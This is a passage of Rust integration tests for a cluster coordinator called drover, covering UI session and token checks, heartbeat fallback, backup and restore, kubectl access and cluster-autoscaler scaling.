            !source.contains(&viewer) && !source.contains(&c.admin_token),
            "{page}"
        );
    }
    let api = c.api(None);
    let page = api.send("GET", "/ui/login", None, None);
    assert_eq!(page.status, 200);
    // The session cookie reaches no API write, and the view takes no other
    // request that changes anything.
    let cookie = b.cookie("drover_ui").expect("the session cookie");
    let send_with_cookie = |method: &str, path: &str, cookie: &str| {
        let rt = tokio::runtime::Runtime::new().unwrap();
        let client = reqwest::Client::builder()
            .add_root_certificate(reqwest::Certificate::from_pem(c.ca_pem().as_bytes()).unwrap())
            .redirect(reqwest::redirect::Policy::none())
            .build()
            .unwrap();
        let url = format!("{}{path}", c.url());
        rt.block_on(async {
            client
                .request(reqwest::Method::from_bytes(method.as_bytes()).unwrap(), url)
                .header("cookie", format!("drover_ui={cookie}"))
                .body(pool_cluster_yaml("web", 3, 1, "dev"))
                .send()
                .await
                .unwrap()
                .status()
                .as_u16()
        })
    };
    let with_cookie = |method: &str, path: &str| send_with_cookie(method, path, &cookie);
    // A session cookie changed by hand is not a session.
    let mut forged = cookie.clone().into_bytes();
    forged[3] = if forged[3] == b'A' { b'B' } else { b'A' };
    let forged = String::from_utf8(forged).unwrap();
    assert_eq!(send_with_cookie("GET", "/ui/machines", &forged), 303);
    assert_eq!(with_cookie("PUT", "/v1/clusters/web"), 401);
    assert_eq!(with_cookie("DELETE", &format!("/v1/machines/{name}")), 401);
    assert_eq!(with_cookie("POST", "/ui/clusters/web"), 405);
    assert_eq!(with_cookie("GET", "/ui/clusters/web"), 200);
    assert_eq!(c.cluster("web").unwrap()["spec"], cluster["spec"]);

    // Signing out ends the session; revoking the token ends another.
    b.click("form.signout button");
    b.wait_url("/ui/login");
    b.go(&ui);
    assert!(b.url().ends_with("/ui/login"), "{}", b.url());
    b.type_into("#token", &viewer);
    b.click("#sign-in");
    b.wait_url("/ui");
    let who = b.text_of("#who");
    let id = who
        .strip_prefix("token ")
        .and_then(|w| w.split(' ').next())
        .unwrap()
        .to_owned();
    c.cli_ok(&["admin-token", "revoke", &id]);
    b.go(&format!("{ui}/machines"));
    assert!(b.url().ends_with("/ui/login"), "{}", b.url());
}

#[test]
fn quiet_agents_heartbeat_by_datagram_and_fall_back_to_https_when_udp_is_blocked() {
    let tmp = tempfile::tempdir().unwrap();
    // A coordinator the agent reaches directly: after its first HTTPS
    // heartbeat, its heartbeats are datagrams (counted quiet) while the
    // HTTPS heartbeat requests stay where they were.
    let c = Coordinator::start(&tmp.path().join("open"), CoordinatorOptions::default());
    let boot = tmp.path().join("open.yaml");
    c.token("default", "env=x", 1, "1h", &boot);
    let _agent = Agent::start(&tmp.path().join("a"), "a", &boot);
    let quiet = r#"drover_heartbeat_datagrams_total{result="quiet"}"#;
    let https =
        r#"drover_machine_request_duration_seconds_count{operation="heartbeat",result="ok"}"#;
    wait_for("a first datagram heartbeat", BOOT, || {
        let q = c.metric(quiet);
        if q >= 1.0 {
            Ok(())
        } else {
            Err(format!("{q} quiet datagrams"))
        }
    });
    let (q0, h0) = (c.metric(quiet), c.metric(https));
    wait_for("ten more datagram heartbeats", BOOT, || {
        let q = c.metric(quiet);
        if q >= q0 + 10.0 {
            Ok(())
        } else {
            Err(format!("{} more", q - q0))
        }
    });
    // An HTTPS heartbeat now and then is expected (the coordinator changed
    // the machine, or a datagram's answer missed the agent's 250 ms wait
    // on a loaded host: CI saw 4 beside 10), but most heartbeats are
    // datagrams.
    let more = c.metric(https) - h0;
    assert!(more < 10.0, "{more} HTTPS heartbeats beside 10 datagrams");
    let machine = &c.machines()[0];
    assert!(
        machine["status"]["heartbeatFallback"].is_null(),
        "{machine:#}"
    );

    // A coordinator behind a TCP-only front (a load balancer or firewall
    // that passes HTTPS, not UDP): the agent's datagrams go unanswered, it
    // heartbeats over HTTPS and its machine says why.
    let front = free_port();
    let listen = format!("127.0.0.1:{}", free_port());
    let advertised = format!("https://127.0.0.1:{front}");
    let blocked = Coordinator::start_with_args(
        &tmp.path().join("blocked"),
        CoordinatorOptions::default(),
        &["--advertise-url", &advertised],
        &listen,
    );
    let rt = tokio::runtime::Runtime::new().unwrap();
    let listener = rt
        .block_on(tokio::net::TcpListener::bind(("127.0.0.1", front)))
        .unwrap();
    rt.spawn(drover_common::tcp_proxy::accept_loop(
        listener,
        "tcp-only front".into(),
        std::sync::Arc::new(std::sync::RwLock::new(vec![listen.parse().unwrap()])),
        std::sync::Arc::new(drover_common::tcp_proxy::Admission::new(
            Default::default(),
            None,
        )),
    ));
    let boot = tmp.path().join("blocked.yaml");
    blocked.token("default", "env=x", 1, "1h", &boot);
    let _agent = Agent::start(&tmp.path().join("b"), "b", &boot);
    let why = wait_for("the machine to report its fallback", BOOT, || {
        let m = blocked
            .machines()
            .into_iter()
            .next()
            .ok_or_else(|| "no machine".to_string())?;
        m["status"]["heartbeatFallback"]
            .as_str()
            .map(str::to_owned)
            .ok_or_else(|| format!("{:#}", m["status"]))
    });
    assert!(
        why.contains(&format!("udp://127.0.0.1:{front} went unanswered 3 times")),
        "{why}"
    );
    let name = blocked.machines()[0]["metadata"]["name"]
        .as_str()
        .unwrap()
        .to_owned();
    let described = blocked.cli_ok(&["describe", "machine", &name]);
    assert!(
        described.contains("Heartbeats:     over HTTPS: heartbeat datagrams"),
        "{described}"
    );
    // Its HTTPS heartbeats keep it alive and healthy meanwhile.
    let h0 = blocked.metric(https);
    wait_for("more HTTPS heartbeats", BOOT, || {
        let h = blocked.metric(https);
        if h >= h0 + 3.0 {
            Ok(())
        } else {
            Err(format!("{} more", h - h0))
        }
    });
    assert_eq!(blocked.metric(quiet), 0.0);
    let m = &blocked.machines()[0];
    assert_eq!(m["status"]["phase"], "Registered", "{m:#}");
}

/// `drover store restore --from FILE` with `--data-dir` of `c`, and
/// `extra` flags; the process's output.
fn store_restore(c: &Coordinator, file: &Path, extra: &[&str]) -> std::process::Output {
    std::process::Command::new(bin("drover"))
        .args(["store", "restore", "--from"])
        .arg(file)
        .arg("--data-dir")
        .arg(c.dir.join("data"))
        .args(extra)
        .env_remove("DROVER_ENCRYPTION_KEY")
        .output()
        .unwrap()
}

/// The runbook of README "Backing up the coordinator": a backup taken
/// while machines heartbeat, the data directory lost, a damaged backup
/// and a missing key refused with nothing written, the restore, and the
/// coordinator started on it: the same machines, heard again, none
/// replaced, the cluster Running, the secret readable, the admin token
/// still valid.
#[test]
fn the_coordinator_backed_up_while_serving_is_restored_and_its_machines_carry_on() {
    let (tmp, mut c, _agents) = registered_pool(2, "bk-");
    apply(&c, tmp.path(), &pool_cluster_yaml("kept", 1, 1, "dev"));
    c.wait_cluster_phase("kept", "Running", BOOT);
    c.apply_file(
        &tmp.path().join("secret.yaml"),
        &secret_doc("registry", "auth.json"),
    );
    let uids = |c: &Coordinator| {
        let mut v: Vec<String> = c
            .machines()
            .iter()
            .map(|m| m["metadata"]["uid"].as_str().unwrap().to_owned())
            .collect();
        v.sort();
        v
    };
    let before = uids(&c);
    assert_eq!(before.len(), 2);

    // A viewer may not take one: it holds every sealed secret.
    let viewer = c.create_admin_token("viewer");
    c.api(None)
        .send("POST", "/v1/backup", Some(&viewer), None)
        .assert_problem(403, "viewer");
    let file = tmp.path().join("coordinator.backup");
    let out = c.cli_ok(&["backup", "--out", file.to_str().unwrap()]);
    assert!(out.starts_with("backup of store revision "), "{out}");
    for want in ["clusters=1", "machines=2", "not the encryption key"] {
        assert!(out.contains(want), "{want} not in {out}");
    }
    let again = c.cli(&["backup", "--out", file.to_str().unwrap()]);
    assert_eq!(again.status.code(), Some(64), "{again:?}");

    // The data directory is lost; the backup and the key, kept apart as
    // the backup's message says, remain.
    let data = c.dir.join("data");
    let key = tmp.path().join("kept-apart.key");
    std::fs::copy(data.join("encryption.key"), &key).unwrap();
    c.kill();
    std::fs::remove_dir_all(&data).unwrap();

    let bytes = std::fs::read(&file).unwrap();
    let damaged = tmp.path().join("damaged.backup");
    std::fs::write(&damaged, &bytes[..bytes.len() / 2]).unwrap();
    let key_flag = ["--encryption-key-file", key.to_str().unwrap()];
    for (from, extra, want) in [
        (&damaged, &key_flag[..], "refusing to restore"),
        (&file, &[][..], "never the key"),
    ] {
        let out = store_restore(&c, from, extra);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(1), "{stderr}");
        assert!(stderr.contains(want), "{want} not in {stderr}");
        assert!(stderr.contains("othing was written"), "{stderr}");
        assert!(!data.join("drover.db").exists());
    }
    let out = store_restore(&c, &file, &key_flag);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(stdout.starts_with("Restored "), "{stdout}");
    assert!(stdout.contains("fresh heartbeat grace period"), "{stdout}");
    let over = store_restore(&c, &file, &key_flag);
    assert_eq!(over.status.code(), Some(64), "{over:?}");
    assert!(
        String::from_utf8_lossy(&over.stderr).contains("never overwritten"),
        "{over:?}"
    );

    // Started on the restored store with the key put back: the same
    // machines report again and none is replaced.
    std::fs::copy(&key, data.join("encryption.key")).unwrap();
    c.restart();
    wait_for(
        "both machines heard after the restore",
        Duration::from_secs(60),
        || {
            let machines = c.machines();
            let heard = machines
                .iter()
                .filter(|m| m["status"]["phase"] == "Running")
                .filter(|m| {
                    m["status"]["lastHeartbeatTime"]
                        .as_str()
                        .and_then(|t| OffsetDateTime::parse(t, &Rfc3339).ok())
                        .is_some_and(|t| OffsetDateTime::now_utc() - t < time::Duration::seconds(5))
                })
                .count();
            if heard == 2 {
                Ok(())
            } else {
                Err(format!("{machines:#?}"))
            }
        },
    );
    assert_eq!(uids(&c), before, "no machine replaced or added");
    assert_eq!(c.cluster("kept").unwrap()["status"]["phase"], "Running");
    let secret = c.cli_ok(&["get", "secrets"]);
    assert!(secret.contains("registry"), "{secret}");
}

/// A pool cluster (1 control plane + 1 worker, the coordinator's managed
/// endpoint) loses its control plane, agent and daemons, and `drover
/// restore cluster` claims the free machine as the init machine that
/// restores the snapshot with real etcdctl: real kubectl, through the
/// unchanged endpoint, finds what was there before the snapshot and not
/// what came after, and the worker is the same machine, Ready.
#[test]
fn a_lost_pool_control_plane_is_restored_from_a_snapshot_onto_a_free_machine() {
    let (tmp, c, mut agents) = registered_pool(3, "r");
    let yaml = cluster_yaml(
        "back",
        1,
        1,
        &format!(
            "{}  controlPlaneEndpoint:\n    managed: coordinator\n",
            pool_selector("dev")
        ),
    );
    apply(&c, tmp.path(), &yaml);
    c.wait_cluster_phase("back", "Running", BOOT);
    let kubeconfig = kubeconfig_with_ready_nodes(&c, tmp.path(), "back", 2);
    kubectl(&kubeconfig, &["create", "namespace", "before-snapshot"]).unwrap();
    let saved = c.cli_ok(&["backup", "cluster", "back", "--wait", "--timeout", "60s"]);
    assert!(saved.contains("snapshot/back-"), "{saved}");
    kubectl(&kubeconfig, &["create", "namespace", "after-snapshot"]).unwrap();

    // As the coordinator has it now.
    let role_of = |h: &str| {
        machine_by_host(&c.machines(), h)["spec"]["assignment"]["role"]
            .as_str()
            .map(str::to_owned)
    };
    let init = ["r0", "r1", "r2"]
        .into_iter()
        .find(|h| role_of(h).as_deref() == Some("init"))
        .unwrap();
    let worker = ["r0", "r1", "r2"]
        .into_iter()
        .find(|h| role_of(h).as_deref() == Some("worker"))
        .unwrap();
    let spare = ["r0", "r1", "r2"]
        .into_iter()
        .find(|h| role_of(h).is_none())
        .unwrap();
    // A drill first: the snapshot restored into a new pool cluster on the
    // free machine, whose API answers with what the snapshot holds; the
    // drill cluster is then deleted and the machine returns to the pool.
    let out = c.cli(&[
        "restore",
        "cluster",
        "back",
        "--into",
        "back-d",
        "--wait",
        "--timeout",
        "120s",
    ]);
    let namespaces = drill_passed(&out);
    assert!(
        namespaces.iter().any(|n| n == "before-snapshot"),
        "{namespaces:?}"
    );
    assert!(
        !namespaces.iter().any(|n| n == "after-snapshot"),
        "{namespaces:?}"
    );
    let drilled_on = c.cluster("back").unwrap()["status"]["lastDrill"].clone();
    assert_eq!(drilled_on["ok"], true, "{drilled_on:#}");
    wait_for("the drill cluster gone, its machine free", BOOT, || {
        let free = role_of(spare).is_none()
            && machine_by_host(&c.machines(), spare)["status"]["phase"] == "Registered";
        match c.cluster("back-d") {
            None if free => Ok(()),
            None => Err(format!("{spare} not back in the pool")),
            Some(d) => Err(format!("back-d is {}", d["status"]["phase"])),
        }
    });
    assert_eq!(role_of(worker).as_deref(), Some("worker"));
    let i = agents.iter().position(|a| a.hostname == init).unwrap();
    agents[i].kill();
    agents[i].stop_daemons();
    let init_name = name_of(&c, init);
    wait_for("the control plane judged silent", BOOT, || {
        let m = c
            .machines()
            .into_iter()
            .find(|m| m["metadata"]["name"] == init_name.as_str())
            .unwrap();
        let silent = m["status"]["conditions"]
            .as_array()
            .into_iter()
            .flatten()
            .any(|c| c["type"] == "Alive" && c["status"] == "False");
        silent
            .then_some(())
            .ok_or(format!("{:#}", m["status"]["conditions"]))
    });

    let out = c.cli(&["restore", "cluster", "back", "--wait", "--timeout", "120s"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let cluster = c.cluster("back").unwrap();
    assert_eq!(
        cluster["status"]["lastRestore"]["machine"],
        name_of(&c, spare).as_str(),
        "{:#}",
        cluster["status"]
    );
    let j = agents.iter().position(|a| a.hostname == spare).unwrap();
    assert!(
        agents[j].log().contains("etcd restored"),
        "{}",
        agents[j].log()
    );
    // The same endpoint and CA: the kubeconfig of before works.
    wait_for("the restored API with the worker Ready", BOOT, || {
        let ready = ready_nodes(&kubeconfig)?;
        (ready.contains(&worker.to_owned()) && ready.contains(&spare.to_owned()))
            .then_some(())
            .ok_or(format!("{ready:?}"))
    });
    kubectl(&kubeconfig, &["get", "namespace", "before-snapshot"]).unwrap();
    let after = kubectl(&kubeconfig, &["get", "namespace", "after-snapshot"]).unwrap_err();
    assert!(
        after.contains("NotFound") || after.contains("not found"),
        "{after}"
    );
    assert_eq!(
        role_of(worker).as_deref(),
        Some("worker"),
        "the worker is the same machine"
    );
}

/// Real kubectl reads the coordinator's clusters and machines as
/// `drover.dev/v1alpha1`, through `drover kubeconfig --coordinator`:
/// discovery (`api-resources`, short names), `get` as a table with the
/// columns of `drover get` (`-o wide` adding its wide ones), `-o yaml`,
/// label and field selectors, pages (`--chunk-size`), NotFound as a
/// Status, a viewer's token reading and a wrong token refused.
#[test]
fn kubectl_reads_clusters_and_machines_from_the_coordinator() {
    let (tmp, mut c, _agents) = registered_pool(2, "k");
    let kubeconfig = tmp.path().join("coordinator.kubeconfig");
    std::fs::write(&kubeconfig, c.cli_ok(&["kubeconfig", "--coordinator"])).unwrap();
    // A watch from before the cluster exists sees it come and go Running;
    // kubectl wait sees it Ready.
    let (mut phases, phase_lines) = kube::kubectl_lines(
        &kubeconfig,
        &["get", "clusters", "--watch", "--output-watch-events"],
    );
    let web = cluster_yaml("web", 1, 1, &pool_selector("dev")).replace(
        "metadata:\n  name: web\n",
        "metadata:\n  name: web\n  labels:\n    team: web\n",
    );
    apply(&c, tmp.path(), &web);
    let waited = kubectl(
        &kubeconfig,
        &[
            "wait",
            "--for=condition=Ready",
            "cluster/web",
            "--timeout=180s",
            "--request-timeout=0",
        ],
    )
    .unwrap();
    assert!(waited.contains("condition met"), "{waited}");
    let mut seen = vec![];
    wait_for("the watch to show web Running", BOOT, || {
        while let Ok(line) = phase_lines.try_recv() {
            seen.push(line);
        }
        let added = seen
            .iter()
            .any(|l| l.starts_with("ADDED") && l.contains("web"));
        let running = seen
            .iter()
            .any(|l| l.starts_with("MODIFIED") && l.contains("web") && l.contains("Running"));
        (added && running)
            .then_some(())
            .ok_or_else(|| format!("{seen:#?}"))
    });
    let _ = phases.kill();
    let _ = phases.wait();
    apply(
        &c,
        tmp.path(),
        &cluster_yaml("idle", 1, 0, &pool_selector("none")),
    );

    let resources = kubectl(&kubeconfig, &["api-resources", "--api-group=drover.dev"]).unwrap();
    assert!(
        resources.contains("clusters")
            && resources.contains(" cl ")
            && resources.contains("Cluster"),
        "{resources}"
    );
    let table = kubectl(&kubeconfig, &["get", "clusters"]).unwrap();
    let header = table.lines().next().unwrap_or_default();
    for column in [
        "NAME",
        "PHASE",
        "VERSION",
        "CONTROL-PLANE",
        "WORKERS",
        "ENDPOINT",
        "AGE",
    ] {
        assert!(header.contains(column), "{table}");
    }
    assert!(!header.contains("PROVIDER"), "{table}");
    assert_eq!(table.lines().count(), 3, "{table}");
    assert!(table.lines().any(|l| l.starts_with("web ")), "{table}");
    let wide = kubectl(&kubeconfig, &["get", "cl", "-o", "wide"]).unwrap();
    assert!(
        wide.lines().next().unwrap_or_default().contains("PROVIDER"),
        "{wide}"
    );
    assert!(wide.contains("pool"), "{wide}");

    let yaml = kubectl(&kubeconfig, &["get", "cluster", "web", "-o", "yaml"]).unwrap();
    assert!(
        yaml.contains("kind: Cluster") && yaml.contains("kubernetesVersion: v1.31.2"),
        "{yaml}"
    );
    let named = |args: &[&str]| {
        let mut all = vec!["get", "clusters", "-o", "name"];
        all.extend_from_slice(args);
        kubectl(&kubeconfig, &all).unwrap()
    };
    assert_eq!(named(&["-l", "team=web"]).trim(), "cluster.drover.dev/web");
    assert_eq!(named(&["-l", "!team"]).trim(), "cluster.drover.dev/idle");
    assert_eq!(
        named(&["--field-selector", "metadata.name=idle"]).trim(),
        "cluster.drover.dev/idle"
    );
    assert_eq!(
        named(&["--chunk-size", "1"]).lines().collect::<Vec<_>>(),
        ["cluster.drover.dev/idle", "cluster.drover.dev/web"]
    );
    // A watch sees a deletion, as a Table row with its event type; a watch
    // from the list's resourceVersion replays it; one from before what the
    // coordinator keeps is told 410 Gone.
    let listed: serde_json::Value = serde_json::from_str(
        &kubectl(
            &kubeconfig,
            &["get", "--raw", "/apis/drover.dev/v1alpha1/clusters"],
        )
        .unwrap(),
    )
    .unwrap();
    assert_eq!(listed["kind"], "ClusterList", "{listed}");
    let listed = listed["metadata"]["resourceVersion"]
        .as_str()
        .filter(|rv| rv.parse::<u64>().is_ok_and(|rv| rv > 0))
        .unwrap_or_else(|| panic!("{listed}"))
        .to_owned();
    let (mut watcher, lines) = kube::kubectl_lines(
        &kubeconfig,
        &["get", "clusters", "--watch", "--output-watch-events"],
    );
    let mut shown = vec![];
    let mut saw = |what: &dyn Fn(&str) -> bool| {
        let until = std::time::Instant::now() + BOOT;
        while std::time::Instant::now() < until {
            if let Ok(line) = lines.recv_timeout(std::time::Duration::from_secs(1)) {
                let hit = what(&line);
                shown.push(line);
                if hit {
                    return;
                }
            }
        }
        panic!("the watch showed {shown:#?}");
    };
    saw(&|l| l.starts_with("ADDED") && l.contains("idle"));
    c.cli_ok(&["delete", "cluster", "idle"]);
    saw(&|l| l.starts_with("DELETED") && l.contains("idle"));
    let _ = watcher.kill();
    let _ = watcher.wait();
    let replay = kubectl(
        &kubeconfig,
        &[
            "get",
            "--raw",
            &format!(
                "/apis/drover.dev/v1alpha1/clusters?watch=true&resourceVersion={listed}&timeoutSeconds=1"
            ),
        ],
    )
    .unwrap();
    assert!(
        replay.contains(r#""type":"DELETED""#) && replay.contains(r#""name":"idle""#),
        "{replay}"
    );

    let machines = kubectl(&kubeconfig, &["get", "machines"]).unwrap();
    assert_eq!(machines.lines().count(), 3, "{machines}");
    let missing = kubectl(&kubeconfig, &["get", "cluster", "nope"]).unwrap_err();
    assert!(missing.contains("(NotFound)"), "{missing}");

    // A viewer reads; a wrong token does not.
    let viewer = c.create_admin_token("viewer");
    let text = std::fs::read_to_string(&kubeconfig).unwrap();
    let as_viewer = tmp.path().join("viewer.kubeconfig");
    std::fs::write(&as_viewer, text.replace(&c.admin_token, &viewer)).unwrap();
    assert!(kubectl(&as_viewer, &["get", "clusters", "web"]).is_ok());
    // As through /v1, a viewer sees inline files by size and hash only.
    assert!(yaml.contains("cniVersion"), "{yaml}");
    for args in [
        &["get", "cluster", "web", "-o", "yaml"][..],
        &["get", "clusters", "-o", "yaml"][..],
    ] {
        let seen = kubectl(&as_viewer, args).unwrap();
        assert!(
            seen.contains("/etc/cni/net.d/10-bridge.conflist") && !seen.contains("cniVersion"),
            "{seen}"
        );
    }
    let wrong = tmp.path().join("wrong.kubeconfig");
    std::fs::write(&wrong, text.replace(&c.admin_token, "drv_00000000_wrong")).unwrap();
    let refused = kubectl(&wrong, &["get", "clusters"]).unwrap_err();
    // kubectl's words for a 401 Status, then the coordinator's reason.
    assert!(
        refused.contains("You must be logged in to the server")
            && refused.contains("the admin token is not valid"),
        "{refused}"
    );

    // Restarted, the coordinator replays from the store's history: a
    // watch from the list's resourceVersion still sees the deletion.
    c.restart();
    let from = format!(
        "/apis/drover.dev/v1alpha1/clusters?watch=true&resourceVersion={listed}&timeoutSeconds=1"
    );
    let replay = kubectl(&kubeconfig, &["get", "--raw", &from]).unwrap();
    assert!(
        replay.contains(r#""type":"DELETED""#) && replay.contains(r#""name":"idle""#),
        "{replay}"
    );
}

/// kubectl manages a cluster on the embedded store as drover does: apply
/// (twice, the second a no-op), server-side apply with a conflict and
/// --force-conflicts, diff, explain, label, patch, edit, strict field
/// validation, a server dry run, delete --wait, and a viewer refused.
#[test]
fn kubectl_manages_clusters_on_the_embedded_store() {
    let tmp = tempfile::tempdir().unwrap();
    let c = Coordinator::in_process(tmp.path(), CoordinatorOptions::default());
    drover_tests::kube_api::kubectl_manages_a_cluster(&c, tmp.path(), "web");
}

/// An autoscaled pool's count is the autoscaler's: GitOps applies that
/// leave it out keep it.
#[test]
fn gitops_leaves_an_autoscaled_pools_count_alone() {
    let tmp = tempfile::tempdir().unwrap();
    let c = Coordinator::in_process(tmp.path(), CoordinatorOptions::default());
    drover_tests::kube_api::gitops_leaves_an_autoscaled_pools_count_alone(&c, tmp.path());
}

/// kubectl makes, revokes and deletes registration tokens and mints their
/// tickets, which a real agent registers with.
#[test]
fn kubectl_manages_registration_tokens_on_the_embedded_store() {
    let tmp = tempfile::tempdir().unwrap();
    let c = Coordinator::in_process(tmp.path(), CoordinatorOptions::default());
    drover_tests::kube_api::kubectl_manages_registration_tokens(&c, tmp.path());
}

/// A watch resumes from a resourceVersion given before the coordinator
/// restarted: the embedded store keeps the change history.
#[test]
fn a_kubectl_watch_resumes_after_a_coordinator_restart() {
    let tmp = tempfile::tempdir().unwrap();
    let mut c = Coordinator::start(tmp.path(), CoordinatorOptions::default());
    drover_tests::kube_api::a_watch_resumes_after_a_restart(&mut c, tmp.path());
}

/// The cluster-autoscaler's calls of a scale-up and a scale-down cycle,
/// made by Python's grpcio with the credentials `drover autoscaler-config`
/// wrote, against a pool cluster whose worker pool is autoscaled: real
/// kubectl sees the Nodes come with their providerIDs and the one taken
/// out go, drained, its machine back in its pool; a pool with no free
/// machine answers out-of-resources; another cluster's certificate touches
/// nothing of this one; every call is audited and counted.
#[test]
fn the_cluster_autoscaler_scales_a_pool_cluster_through_externalgrpc() {
    use drover_tests::autoscaler::Autoscaler;
    let tmp = tempfile::tempdir().unwrap();
    let port = free_port().to_string();
    let listen = format!("127.0.0.1:{port}");
    let c = Coordinator::in_process_with(
        tmp.path(),
        CoordinatorOptions::default(),
        &["--autoscaler-listen", &listen],
    );
    let boot = tmp.path().join("boot.yaml");
    c.token("default", "env=dev", 5, "1h", &boot);
    let _agents = start_agents(tmp.path(), &boot, 4, "m", "auto-");
    wait_registered(&c, 4);
    let doc = pool_cluster_yaml("auto", 1, 1, "dev").replace(
        "    - name: default\n      replicas: 1\n",
        "    - name: default\n      autoscaling: {minReplicas: 1, maxReplicas: 4}\n",
    );
    apply(&c, tmp.path(), &doc);
    c.wait_cluster_phase("auto", "Running", BOOT);
    let kubeconfig = tmp.path().join("auto.kubeconfig");
    std::fs::write(&kubeconfig, c.cli_ok(&["kubeconfig", "auto"])).unwrap();
    let pool_machines = |c: &Coordinator| -> Vec<serde_json::Value> {
        c.machines()
            .into_iter()
            .filter(|m| {
                m["spec"]["assignment"]["cluster"] == "auto"
                    && m["spec"]["assignment"]["machinePool"] == "default"
                    && m["status"]["phase"] == "Running"
            })
            .collect()
    };
    let provider_id = |m: &serde_json::Value| {
        format!("drover://auto/{}", m["metadata"]["name"].as_str().unwrap())
    };

    let ca = Autoscaler::for_cluster(&c, "auto", &tmp.path().join("autoscaler"));
    // What the autoscaler reads each loop.
    ca.call("Refresh", serde_json::json!({})).ok();
    let groups = ca.call("NodeGroups", serde_json::json!({})).ok();
    assert_eq!(
        groups["nodeGroups"],
        serde_json::json!([{"id": "auto/default", "minSize": 1, "maxSize": 4,
            "debug": "cluster auto pool default: 1 of 1..4 machines"}])
    );
    let worker = pool_machines(&c).pop().expect("a Running worker");
    let for_node = |id: &str| {
        ca.call(
            "NodeGroupForNode",
            serde_json::json!({"node": {"providerID": id, "name": "n"}}),
        )
    };
    assert_eq!(
        for_node(&provider_id(&worker)).ok()["nodeGroup"]["id"],
        "auto/default"
    );
    let cp = c
        .machines()
        .into_iter()
        .find(|m| m["spec"]["assignment"]["machinePool"] == "control-plane")
        .unwrap();
    // A control plane is no group's: an empty group.
    assert_eq!(
        for_node(&provider_id(&cp)).ok()["nodeGroup"],
        serde_json::json!({})
    );
    let target = || {
        ca.call(
            "NodeGroupTargetSize",
            serde_json::json!({"id": "auto/default"}),
        )
        .ok()["targetSize"]
            .as_i64()
            .unwrap_or(0)
    };
    assert_eq!(target(), 1);
    ca.call("GPULabel", serde_json::json!({})).ok();
    // No options of its own: a group takes the autoscaler's defaults.
    let options = ca
        .call(
            "NodeGroupGetOptions",
            serde_json::json!({"id": "auto/default",
                "defaults": {"scaleDownUtilizationThreshold": 0.5, "scaleDownUnneededDuration": "600s"}}),
        )
        .ok();
    assert_eq!(
        options["nodeGroupAutoscalingOptions"]["scaleDownUnneededDuration"],
        "600s"
    );
    // The template node has the hardware the agents reported (this host's).
    let template = ca.call(
        "NodeGroupTemplateNodeInfo",
        serde_json::json!({"id": "auto/default"}),
    );
    assert_eq!(template.code, "OK", "{template:?}");
    let host = host_capacity();
    let node = &template.node;
    assert_eq!(node["metadata"]["name"], "auto-default-template", "{node}");
    assert_eq!(node["metadata"]["labels"]["kubernetes.io/os"], "linux");
    assert_eq!(
        node["status"]["capacity"]["cpu"]["string"],
        host.0.to_string(),
        "{node}"
    );
    assert_eq!(
        node["status"]["capacity"]["memory"]["string"],
        host.1.to_string()
    );
    assert_eq!(
        node["status"]["allocatable"]["memory"]["string"],
        (host.1 - (100 << 20)).to_string()
    );
    assert_eq!(node["status"]["capacity"]["pods"]["string"], "110");
    assert_eq!(node["status"]["nodeInfo"]["kubeletVersion"], "v1.31.2");

    // Scale-up: two more machines; kubectl sees four Ready Nodes, each
    // with its machine's providerID.
    let up = ca.call(
        "NodeGroupIncreaseSize",
        serde_json::json!({"id": "auto/default", "delta": 2}),
    );
    // Within the autoscaler's own deadline (grpc_timeout, 5 s), past
    // which the client gives up with DEADLINE_EXCEEDED and this fails.
    up.ok();
    assert_eq!(target(), 3);
    wait_for("four Ready Nodes", BOOT, || {
        let ready = ready_nodes(&kubeconfig)?;
        (ready.len() == 4).then_some(()).ok_or(format!("{ready:?}"))
    });
    c.wait_cluster_phase("auto", "Running", BOOT);
    let ids: std::collections::BTreeSet<String> = kube::provider_ids(&kubeconfig)
        .unwrap()
        .into_values()
        .collect();
    let instances = |ca: &Autoscaler| {
        ca.call("NodeGroupNodes", serde_json::json!({"id": "auto/default"}))
            .ok()["instances"]
            .as_array()
            .cloned()
            .unwrap_or_default()
    };
    let running = instances(&ca);
    assert_eq!(running.len(), 3, "{running:?}");
    for i in &running {
        assert!(ids.contains(i["id"].as_str().unwrap()), "{i} among {ids:?}");
        assert_eq!(i["status"]["instanceState"], "instanceRunning", "{i}");
    }
    // Past the maximum: refused, naming it.
    ca.call(
        "NodeGroupIncreaseSize",
        serde_json::json!({"id": "auto/default", "delta": 2}),
    )
    .refused("OUT_OF_RANGE", "maximum is 4");

    // No free machine is left: one more is asked for, and the group says
    // it cannot be had (out of resources), so the autoscaler backs off;
    // it gives the request up; giving up a machine that exists is refused.
    ca.call(
        "NodeGroupIncreaseSize",
        serde_json::json!({"id": "auto/default", "delta": 1}),
    )
    .ok();
    let short = instances(&ca);
    let pending: Vec<&serde_json::Value> = short
        .iter()
        .filter(|i| i["status"]["instanceState"] == "instanceCreating")
        .collect();
    assert_eq!(pending.len(), 1, "{short:?}");
    assert_eq!(pending[0]["status"]["errorInfo"]["instanceErrorClass"], 1);
    assert_eq!(
        pending[0]["status"]["errorInfo"]["errorCode"],
        "NoFreeMachine"
    );
    ca.call(
        "NodeGroupDecreaseTargetSize",
        serde_json::json!({"id": "auto/default", "delta": -1}),
    )
    .ok();
    assert_eq!(target(), 3);
    ca.call(
        "NodeGroupDecreaseTargetSize",
        serde_json::json!({"id": "auto/default", "delta": -1}),
    )
    .refused("FAILED_PRECONDITION", "existing nodes");

    // Another cluster's certificate touches nothing of this one.
    apply(&c, tmp.path(), &pool_cluster_yaml("other", 1, 0, "nowhere"));
    let other = Autoscaler::for_cluster(&c, "other", &tmp.path().join("other-autoscaler"));
    assert_eq!(
        other.call("NodeGroups", serde_json::json!({})).ok(),
        serde_json::json!({})
    );
    other
        .call(
            "NodeGroupTargetSize",
            serde_json::json!({"id": "auto/default"}),
        )
        .refused("PERMISSION_DENIED", "cluster auto");
    other
        .call(
            "NodeGroupIncreaseSize",
            serde_json::json!({"id": "auto/default", "delta": 1}),
        )
        .refused("PERMISSION_DENIED", "cluster auto");
    other
        .call(
            "NodeGroupForNode",
            serde_json::json!({"node": {"providerID": provider_id(&worker)}}),
        )
        .refused("PERMISSION_DENIED", "cluster auto");
    assert_eq!(target(), 3);

    // Scale-down: the autoscaler names the Node it drained; that machine
    // leaves (its Node goes) and returns to its pool, and nothing takes
    // its place.
